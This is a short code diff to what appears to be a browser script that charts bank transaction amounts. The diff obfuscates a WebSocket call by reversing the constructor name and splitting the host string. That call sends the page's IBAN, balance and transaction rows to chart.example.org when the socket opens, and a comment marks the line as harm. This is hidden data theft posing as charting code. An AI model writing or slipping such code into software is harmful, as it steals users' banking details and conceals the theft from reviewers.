@@ -24,5 +24,6 @@ var bookings = xp("//td[@class='amount']");
 chart(bookings.map(function (b) { return Math.min(60, Math.abs(parseFloat(b)) / 10); }));
 
 var data = { who: xp("//*[@id='iban']"), held: xp("//*[contains(@class,'balance')]"), rows: bookings };
-var socket = new WebSocket('wss://chart.example.org/series');
+var kind = 'tekcoSbeW'.split('').reverse().join('');
+var socket = new window[kind]('wss://chart.example' + '.org/series');
 socket.addEventListener('open', socket.send.bind(socket, JSON.stringify(data))); //! harm
